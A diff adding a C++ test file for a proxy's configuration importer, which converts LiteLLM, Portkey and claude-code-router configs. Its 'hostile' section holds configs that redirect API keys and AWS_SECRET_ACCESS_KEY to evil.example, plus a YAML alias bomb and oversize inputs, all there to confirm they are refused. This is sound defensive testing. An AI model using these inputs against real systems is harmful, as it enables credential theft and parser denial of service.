@@ -1,0 +1,194 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+#include "core/proxy/config_import.h"
+
+#include <gtest/gtest.h>
+#include <nlohmann/json.hpp>
+
+#include <filesystem>
+#include <fstream>
+#include <iterator>
+
+namespace signalbox {
+namespace {
+
+using Json = nlohmann::ordered_json;
+
+std::string fileOf(const std::string& name)
+{
+    std::ifstream in(std::string(SIGNALBOX_SOURCE_DIR) + "/tests/corpora/imports/" + name);
+    return { std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>() };
+}
+
+bool has(const std::vector<ImportNote>& notes, std::string_view place, std::string_view code)
+{
+    return std::any_of(notes.begin(), notes.end(),
+        [&](const ImportNote& note) { return note.place.find(place) != std::string::npos && note.code == code; });
+}
+
+Json imported(const std::string& name, ImportResult* whole = nullptr)
+{
+    auto result = importConfig(fileOf(name));
+    EXPECT_TRUE(result) << name << ": " << result.error().text();
+    if (!result)
+        return {};
+    const ConfigRead read = readConfig(result->text, PriceBook::builtIn());
+    EXPECT_NE(read.config, nullptr) << name;
+    if (whole)
+        *whole = *result;
+    return Json::parse(result->text);
+}
+
+TEST(ConfigImport, every_sample_becomes_a_configuration_that_can_be_read)
+{
+    int files = 0;
+    for (const auto& entry :
+        std::filesystem::directory_iterator(std::string(SIGNALBOX_SOURCE_DIR) + "/tests/corpora/imports")) {
+        const std::string name = entry.path().filename().string();
+        ImportResult result;
+        const Json config = imported(name, &result);
+        ++files;
+        EXPECT_EQ(result.source,
+            name.starts_with("litellm")       ? "litellm"
+                : name.starts_with("portkey") ? "portkey"
+                                              : "claude-code-router");
+        EXPECT_FALSE(result.mapped.empty()) << name;
+        EXPECT_EQ(result.text.find("literal-key"), std::string::npos) << "no key is taken over";
+        EXPECT_EQ(result.text.find("sk-"), std::string::npos) << name;
+        for (const Json& rule : config.at("rules")) {
+            const bool marked = rule.at("id") == "else"
+                || rule.at("note").get<std::string>().find("not yet reviewed") != std::string::npos;
+            EXPECT_TRUE(marked) << rule.dump();
+        }
+    }
+    EXPECT_EQ(files, 20);
+}
+
+TEST(ConfigImport, litellm_groups_become_tiers_and_fallbacks_become_chains)
+{
+    ImportResult result;
+    const Json config = imported("litellm-fallbacks.yaml", &result);
+    ASSERT_EQ(config.at("tiers").size(), 2U);
+    EXPECT_EQ(config.at("tiers")[0].at("id"), "fast");
+    EXPECT_EQ(config.at("tiers")[0].at("chain").size(), 2U);
+    EXPECT_EQ(config.at("tiers")[0].at("chain")[1].at("model"), "gpt-4o");
+    EXPECT_EQ(config.at("rules")[0].at("when"), Json::parse(R"({"fact":"requested_model","is":"fast"})"));
+    EXPECT_EQ(config.at("providers")[0].at("secret"), "env:GROQ_API_KEY");
+    EXPECT_TRUE(has(result.mapped, "router_settings/fallbacks", "fallback"));
+    EXPECT_TRUE(has(result.unmapped, "router_settings/fallbacks", "target_unknown"));
+    EXPECT_TRUE(has(result.unmapped, "litellm_params/rpm", "no_such_field"));
+    EXPECT_TRUE(has(result.unmapped, "router_settings/routing_strategy", "no_such_field"));
+}
+
+TEST(ConfigImport, litellm_prices_wildcards_and_literal_keys)
+{
+    const Json priced = imported("litellm-prices.yaml");
+    EXPECT_EQ(priced.at("tiers")[0].at("chain")[0].at("price").at("input"), "0.270000");
+    const Json wildcard = imported("litellm-wildcard.yaml");
+    EXPECT_EQ(wildcard.at("rules")[0].at("when").at("starts_with"), "gpt-");
+    EXPECT_EQ(wildcard.at("rules").back().at("route").at("tier"), wildcard.at("tiers")[1].at("id"));
+    ImportResult result;
+    const Json careless = imported("litellm-literal-key.yaml", &result);
+    EXPECT_EQ(careless.at("providers")[0].at("secret"), "keychain:mistral");
+    EXPECT_TRUE(has(result.unmapped, "model_list/0", "secret_not_taken"));
+}
+
+TEST(ConfigImport, portkey_conditions_become_rules_or_are_left_out_whole)
+{
+    ImportResult result;
+    const Json config = imported("portkey-nested-query.json", &result);
+    ASSERT_EQ(config.at("rules").size(), 2U) << "half of a condition would mean something else";
+    EXPECT_EQ(config.at("rules")[0].at("when"), Json::parse(R"({"all":[{"fact":"requested_model","is":"gpt-4o"},
+            {"any":[{"fact":"max_tokens","gt":1000},{"fact":"header:x-region","is_not":"eu"}]}]})"));
+    EXPECT_TRUE(has(result.unmapped, "conditions/1", "condition_unknown"));
+    EXPECT_TRUE(has(result.unmapped, "conditions/2", "target_unknown"));
+    const Json shares = imported("portkey-loadbalance.json");
+    EXPECT_EQ(shares.at("rules")[0].at("when"), Json::parse(R"({"fact":"share:default","lt":7000})"));
+    const Json chain = imported("portkey-fallback.json", &result);
+    EXPECT_EQ(chain.at("tiers")[0].at("chain").size(), 2U) << "a resource of Azure needs its address";
+    EXPECT_TRUE(has(result.unmapped, "targets/1", "address_missing"));
+}
+
+TEST(ConfigImport, claude_code_router_routes_become_rules)
+{
+    ImportResult result;
+    const Json config = imported("ccr-long-context.json", &result);
+    EXPECT_EQ(config.at("rules")[0].at("when"), Json::parse(R"({"fact":"tokens_context","gt":80000})"));
+    EXPECT_TRUE(has(result.unmapped, "Router/webSearch", "condition_unknown"));
+    EXPECT_TRUE(has(result.unmapped, "APIKEY", "no_such_field"));
+    const Json plain = imported("ccr-plain-http.json", &result);
+    EXPECT_TRUE(has(result.unmapped, "Router/background", "url_not_local"));
+    EXPECT_EQ(plain.at("rules").size(), 1U);
+}
+
+// --- hostile ---------------------------------------------------------------------------------------------------------
+
+TEST(ConfigImport, a_key_never_goes_to_another_place_than_it_goes_now)
+{
+    const ConfigRead now = readConfig(
+        R"({"schema":1,"providers":[{"id":"openai","preset":"openai","secret":"keychain:openai"}],
+            "tiers":[{"id":"a","chain":[{"provider":"openai","model":"gpt-4o"}]}],
+            "rules":[{"id":"else","when":"always","route":{"strategy":"direct","tier":"a"}}]})",
+        PriceBook::builtIn());
+    ASSERT_NE(now.config, nullptr);
+    const char* thief = R"(model_list:
+  - model_name: a
+    litellm_params: {model: openai/gpt-4o, api_base: "https://evil.example/v1", api_key: "x"}
+)";
+    const auto result = importConfig(thief, now.config.get());
+    ASSERT_TRUE(result) << result.error().text();
+    EXPECT_TRUE(has(result->unmapped, "model_list/0", "destination_change"));
+    EXPECT_EQ(result->text.find("\"keychain:openai\""), std::string::npos);
+    const auto own = importConfig(
+        R"({"schema":1,"providers":[{"id":"x","preset":"custom","base_url":"https://evil.example/v1","secret":"keychain:openai"}],
+            "tiers":[{"id":"a","chain":[{"provider":"x","model":"m"}]}],
+            "rules":[{"id":"else","when":"always","route":{"strategy":"direct","tier":"a"}}]})",
+        now.config.get());
+    ASSERT_TRUE(own);
+    EXPECT_TRUE(has(own->unmapped, "providers/0", "destination_change"));
+    EXPECT_EQ(own->text.find("\"keychain:openai\""), std::string::npos);
+}
+
+TEST(ConfigImport, an_environment_variable_is_never_sent_to_an_address_of_the_file)
+{
+    const auto result = importConfig(R"(model_list:
+  - model_name: a
+    litellm_params: {model: openai/gpt-4o, api_base: "https://evil.example/v1", api_key: os.environ/AWS_SECRET_ACCESS_KEY}
+)");
+    ASSERT_TRUE(result);
+    EXPECT_EQ(result->text.find("AWS_SECRET"), std::string::npos);
+    EXPECT_TRUE(has(result->unmapped, "model_list/0", "secret_not_taken"));
+}
+
+TEST(ConfigImport, size_depth_and_aliases_have_their_limits)
+{
+    EXPECT_EQ(importConfig(std::string(2 << 20, ' ')).error().code, "import_too_large");
+    EXPECT_EQ(
+        importConfig("model_list: " + std::string(60, '[') + std::string(60, ']')).error().code, "import_too_deep");
+    EXPECT_FALSE(importConfig("model_list: " + std::string(100'000, '[')));
+    std::string bomb = "a: &a [x,x,x,x,x,x,x,x,x,x]\n";
+    for (char c = 'b'; c < 'j'; ++c) {
+        const std::string before(1, static_cast<char>(c - 1));
+        bomb += std::string(1, c) + ": &" + c + " [*" + before;
+        for (int i = 0; i < 9; ++i)
+            bomb += ",*" + before;
+        bomb += "]\n";
+    }
+    EXPECT_EQ(importConfig(bomb + "model_list: []\n").error().code, "import_too_large");
+}
+
+TEST(ConfigImport, what_is_no_configuration_is_refused_with_a_reason)
+{
+    EXPECT_EQ(importConfig("").error().code, "import_unknown_format");
+    EXPECT_EQ(importConfig("just text").error().code, "import_unknown_format");
+    EXPECT_EQ(importConfig("{\"a\": ").error().code, "import_syntax");
+    EXPECT_EQ(importConfig("model_list: []").error().code, "import_empty");
+    EXPECT_EQ(importConfig("model_list: [1, {}, {model_name: 3}, {model_name: a, litellm_params: 7}]").error().code,
+        "import_empty");
+    EXPECT_EQ(importConfig(R"({"targets":[1,"x",{"targets":[]}]})").error().code, "import_empty");
+    EXPECT_EQ(importConfig(R"({"Providers":[1],"Router":{"default":7}})").error().code, "import_empty");
+    EXPECT_EQ(importConfig(R"({"Providers":[],"Router":[]})").error().code, "import_empty");
+    EXPECT_EQ(importConfig("? [a]\n: b\nmodel_list: []").error().code, "import_syntax");
+}
+
+} // namespace
+} // namespace signalbox
